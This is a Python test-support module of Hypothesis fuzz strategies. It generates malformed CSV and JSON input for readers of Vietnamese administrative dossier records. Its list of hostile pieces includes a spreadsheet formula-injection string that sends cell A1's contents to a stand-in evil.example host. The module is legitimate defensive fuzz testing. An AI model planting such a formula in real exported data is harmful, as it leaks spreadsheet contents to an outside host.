"""Hostile pieces of text and bytes the fuzz strategies draw from (shared by the fuzz tests)."""

from __future__ import annotations

import os
from collections import Counter

from hypothesis import strategies as st

SCALE = float(os.environ.get("LAPVO_FUZZ_SCALE", "1"))
"""Multiplies every fuzz budget: 1 in CI (under a minute), e.g. 25 for a long campaign."""


def budget(examples: int) -> int:
    """The ``max_examples`` of a fuzz test: its CI budget times :data:`SCALE`."""
    return max(1, round(examples * SCALE))


INPUTS: Counter[str] = Counter()
"""Inputs tried per target in this run (reported by the conftest's summary line)."""


def tried(target: str) -> None:
    """Count one input given to *target*."""
    INPUTS[target] += 1


FLAT_HEAD = (
    "dossier_code,procedure_code,agency_code,level,field,channel,assisted,received_at,"
    "time_limit,due_at,finished_at,finish_kind,supplement_requested_at,supplement_supplied_at"
)
FLAT_ROW = (
    "D{n},1.001193,xa-tan-my,xã,Hộ tịch,trực tuyến,0,2020-03-02T09:00:00,3 working_days,"
    ",2020-03-04T10:00:00,approved,,"
)
EVENTS_HEAD = "dossier_code,at,event,procedure_code,agency_code,level,field,channel,time_limit"
EVENTS_ROWS = (
    (
        "H56.14-200302-000{n},2020-03-02T09:00,received,1.001193,H56.14,xã,Hộ tịch,online,"
        "3 working_days"
    ),
    "H56.14-200302-000{n},2020-03-03T10:00,supplement_requested,,,,,,",
    "H56.14-200302-000{n},2020-03-04T10:00,resolved,,,,,,",
)

# Pieces that broke or could break a reader: quotes, line ends of every kind, NUL,
# other controls, a BOM, formula text, separators, very long cells (past the csv
# module's 131,072-character field limit), undecodable bytes.
PIECES: list[str] = [
    '"', '""', ",", ";", "\r", "\n", "\r\n", "\x00", "\x1b[2J", "\x0b", "\x0c", "\x85",
    "\u2028", "\u202e", "\ufeff", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "+1", "-1", "@SUM(A1)", "\t", " ", "2020-03-02T09:00:00", "2020-02-30", "9999-12-31",
    "0001-01-01T00:00:00+14:00", "3 working_days", "-3 working_days", "same_day 25:00",
    "approved", "trực tuyến", "fax", "Hộ tịch", "ho\u0302\u0300", "1e309", "NaN",
]  # fmt: skip
BYTES: list[bytes] = [b"\xff", b"\xfe\xff", b"\xef\xbb\xbf", b"\xc3", b"\xa1\xb8", b"\x80"]
LONG = "x" * 131_073

piece = st.sampled_from(PIECES) | st.text(max_size=12)
cell = st.lists(piece, max_size=4).map("".join)
line_end = st.sampled_from(["\n", "\r\n", "\r"])


@st.composite
def csv_bytes(draw: st.DrawFn, head: str, rows: tuple[str, ...]) -> bytes:
    """A CSV file: the header, valid rows and rows with hostile cells, mixed line ends."""
    end = draw(line_end)
    lines = [head]
    for n in range(draw(st.integers(0, 6))):
        base = rows[n % len(rows)].format(n=n % 3)
        cells = base.split(",")
        for _ in range(draw(st.integers(0, 3))):
            i = draw(st.integers(0, len(cells) - 1))
            cells[i] = draw(cell)
        if draw(st.integers(0, 40)) == 0:
            cells[draw(st.integers(0, len(cells) - 1))] = draw(st.sampled_from([LONG, f'"{LONG}"']))
        lines.append(",".join(cells))
        if draw(st.integers(0, 8)) == 0:
            end = draw(line_end)  # a file with mixed line ends
    if draw(st.integers(0, 30)) == 0:
        lines[0] = draw(st.sampled_from([head + "," + LONG, head + ',"' + LONG + '"']))
    text = end.join(lines) + draw(st.sampled_from(["", end]))
    data = text.encode("utf-8")
    if draw(st.integers(0, 5)) == 0:
        at = draw(st.integers(0, len(data)))
        data = data[:at] + draw(st.sampled_from(BYTES)) + data[at:]
    return data


json_scalar = (
    st.none()
    | st.booleans()
    | st.integers(-(2**70), 2**70)
    | st.floats(allow_nan=False)
    | st.sampled_from(PIECES)
    | st.text(max_size=20)
)
json_value = st.recursive(
    json_scalar,
    lambda inner: (
        st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4)
    ),
    max_leaves=20,
)
